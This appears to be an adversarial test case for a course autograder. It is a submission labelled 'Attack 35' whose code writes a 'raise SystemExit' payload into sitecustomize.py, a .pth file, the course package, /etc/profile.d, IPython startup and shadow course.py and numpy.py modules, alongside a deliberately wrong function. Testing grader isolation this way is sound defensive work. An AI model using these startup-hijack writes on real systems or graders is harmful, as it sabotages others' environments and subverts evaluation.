# Attack 35: Change what the next kernel will import or run at its start.
# points: double 0, half 1
# reads: double: wrong

# %% double-answer
import os
import sysconfig

import course

packages, own = sysconfig.get_path("purelib"), os.path.dirname(course.__file__)


def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write("raise SystemExit")


for path in (
    f"{packages}/sitecustomize.py",
    f"{packages}/attack.pth",
    f"{own}/__init__.py",
    "/etc/profile.d/attack.sh",
):
    tried(f"write {path}", lambda path=path: write(path))
write(os.path.expanduser("~/.ipython/profile_default/startup/attack.py"))  # its own home goes with it
write(os.path.expanduser("~/course.py"))
write(os.path.expanduser("~/numpy.py"))


def double(x):
    return x
